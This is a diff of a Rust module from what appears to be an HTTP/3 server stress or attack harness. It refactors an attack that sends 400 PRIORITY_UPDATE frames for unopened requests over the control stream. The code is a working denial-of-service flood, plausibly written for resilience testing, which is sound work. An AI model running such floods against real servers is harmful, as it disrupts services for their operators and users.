@@ -1,20 +1,20 @@
 //! PRIORITY_UPDATE frames for requests that have not come.
 
 use crate::attacker::{Attack, Attacker};
+use crate::flood;
 use crate::wire;
 
 pub(super) const ATTACK: Attack = Attack::new("priority_updates", "PRIORITY_UPDATE frames", run);
 
 fn run(a: &mut Attacker) {
-    let flood = (0..400)
-        .map(|n| wire::frame(0xf0700, &[wire::varint(n % 100 * 4), b"u=1".to_vec()].concat()))
+    let frames = (0..400)
+        .map(|n| {
+            wire::frame(
+                0xf0700,
+                &[wire::varint(n % 100 * 4), b"u=1".to_vec()].concat(),
+            )
+        })
         .collect::<Vec<_>>()
         .concat();
-    a.storm(|conn, (): &mut ()| {
-        let control = conn.critical().control;
-        if conn.takes(control) {
-            conn.write(control, &flood);
-            conn.ops += 400;
-        }
-    });
+    flood::control(a, &frames, 400);
 }
